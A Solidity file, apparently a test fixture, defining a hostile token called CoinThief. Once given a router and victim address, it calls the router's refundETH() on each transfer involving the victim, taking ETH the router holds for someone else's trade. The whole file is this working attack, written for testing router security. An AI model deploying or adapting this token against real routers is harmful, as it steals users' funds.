// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

interface IRouter {
    function refundETH() external payable;
}

/// A token for tests whose code takes the coin that a router holds for somebody's trade, whenever it is moved to or from them.
contract CoinThief {
    event Transfer(address indexed from, address indexed to, uint256 value);

    string public constant name = "Thief";
    string public constant symbol = "THIEF";
    uint8 public constant decimals = 18;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address private router;
    address private victim;

    constructor() {
        balanceOf[msg.sender] = 1e30;
    }

    receive() external payable {}

    function rob(address router_, address victim_) external {
        (router, victim) = (router_, victim_);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return move(from, to, value);
    }

    function move(address from, address to, uint256 value) private returns (bool) {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        if (victim != address(0) && (from == victim || to == victim) && router.balance > 0) IRouter(router).refundETH();
        return true;
    }
}
